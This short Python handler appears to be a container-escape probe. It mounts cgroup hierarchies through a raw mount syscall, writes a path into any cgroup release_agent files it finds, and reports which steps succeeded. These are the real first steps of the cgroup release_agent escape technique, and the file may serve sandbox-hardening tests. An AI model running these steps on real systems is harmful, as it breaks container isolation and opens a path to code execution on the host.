"""Its own limits: through cgroup files, a release agent, a mount, another group."""

import glob
import os
from typing import Any

import attacking


def handler(event: Any, context: Any) -> Any:
    """What worked, and the paths of its groups when they tell where they are on the machine."""
    found = [path for path in ("/sys/fs/cgroup", "/sys", "/proc/1/cwd/sys") if os.path.exists(path)]
    os.makedirs("/tmp/group", exist_ok=True)
    for kind, options in ((b"cgroup", b"memory"), (b"cgroup", b"freezer"), (b"cgroup2", b"")):
        if attacking.call(165, b"none", b"/tmp/group", kind, 0, options) == "done":
            found.append(f"mounted {kind.decode()}")
    for path in glob.glob("/tmp/group/**/release_agent", recursive=True):
        found += [path] if attacking.write(path, "/tmp/agent") else []
    return found + [line for line in attacking.read("/proc/self/cgroup").split("\n") if "kokoa" in line]
